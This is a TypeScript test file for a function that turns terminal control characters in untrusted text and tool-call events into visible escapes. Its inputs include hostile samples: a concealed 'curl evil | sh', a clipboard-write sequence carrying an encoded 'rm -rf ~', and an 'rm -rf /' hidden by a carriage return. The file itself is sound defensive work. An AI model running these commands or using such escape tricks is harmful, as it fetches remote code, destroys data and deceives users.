import { describe, expect, it } from 'vitest';
import { showControlCharacters, showControlCharactersIn } from './show-control-characters.ts';

describe('text from outside shown on a terminal', () => {
  it('shows an escape sequence as text: no title, no clipboard, no cursor move, no hidden text', () => {
    expect(showControlCharacters('a\u001b]0;title\u0007b')).toBe('a\\x1b]0;title\\x07b');
    expect(showControlCharacters('\u001b]52;c;cm0gLXJmIH4=\u0007')).toBe('\\x1b]52;c;cm0gLXJmIH4=\\x07');
    expect(showControlCharacters('\u001b[2J\u001b[H')).toBe('\\x1b[2J\\x1b[H');
    expect(showControlCharacters('echo hi\u001b[8m; curl evil | sh')).toBe('echo hi\\x1b[8m; curl evil | sh');
    expect(showControlCharacters('\u009b31m')).toBe('\\x9b31m');
  });

  it('keeps tabs and newlines, drops the carriage return of CRLF, and shows one that would overwrite', () => {
    expect(showControlCharacters('a\tb\r\nc\n')).toBe('a\tb\nc\n');
    expect(showControlCharacters('streamed up to here\r')).toBe('streamed up to here');
    expect(showControlCharacters('rm -rf /\rls')).toBe('rm -rf /\\x0dls');
    expect(showControlCharacters('abc\bd')).toBe('abc\\x08d');
  });

  it('leaves text without control characters as it is, wide characters and emoji included', () => {
    expect(showControlCharacters('日本語 😀 › done')).toBe('日本語 😀 › done');
  });

  it('shows them in every string of an event, and leaves the rest of it as it is', () => {
    const event = {
      type: 'tool-call.ended',
      output: 'x\u001b]0;t\u0007',
      args: { command: 'a\u001b[8mb', count: 2, list: ['\u0007'] },
      error: undefined,
      diff: null,
    };
    expect(showControlCharactersIn(event)).toEqual({
      type: 'tool-call.ended',
      output: 'x\\x1b]0;t\\x07',
      args: { command: 'a\\x1b[8mb', count: 2, list: ['\\x07'] },
      error: undefined,
      diff: null,
    });
  });
});
